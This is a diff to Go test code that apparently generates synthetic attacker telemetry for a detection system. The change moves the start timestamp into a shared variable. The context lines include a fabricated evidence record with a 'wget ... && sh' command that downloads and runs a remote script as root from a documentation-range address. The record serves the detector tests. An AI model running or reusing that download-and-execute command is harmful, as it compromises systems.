@@ -28,6 +28,9 @@ const (
 	longSession = 1 // the attacker whose session does not end
 )
 
+// firstTag is the time from which tags come.
+var firstTag = time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
+
 func id(parts ...any) uuid.UUID { return uuid.NewSHA1(uuid.NameSpaceOID, fmt.Append(nil, parts...)) }
 
 func identityOf(attacker int) uuid.UUID { return id("identity ", attacker%identities) }
@@ -76,7 +79,6 @@ func sessionOf(attacker, n int) string {
 func tagSource() func() ttp.Tag {
 	random := rand.New(rand.NewPCG(1, 2))
 	skewed := rand.NewZipf(random, 1.2, 8, attackers-1)
-	begin := time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)
 	event := 0
 	var tagged [attackers]int
 	return func() ttp.Tag {
@@ -92,7 +94,7 @@ func tagSource() func() ttp.Tag {
 			Evidence: fmt.Appendf(nil,
 				`{"command":"wget -q http://203.0.113.%d/%08x.sh -O .x && sh .x","matched":"wget","user":"root","pid":%d,"tty":true}`,
 				random.IntN(256), random.Uint32(), random.IntN(1<<15)),
-			ObservedAt: begin.Add(time.Duration(event)*pause - time.Duration(random.IntN(int(delay/time.Microsecond)))*time.Microsecond),
+			ObservedAt: firstTag.Add(time.Duration(event)*pause - time.Duration(random.IntN(int(delay/time.Microsecond)))*time.Microsecond),
 		}
 		if technique%3 == 0 {
 			t.SubTechniqueID = fmt.Sprintf("%s.%03d", t.TechniqueID, 1+random.IntN(4))
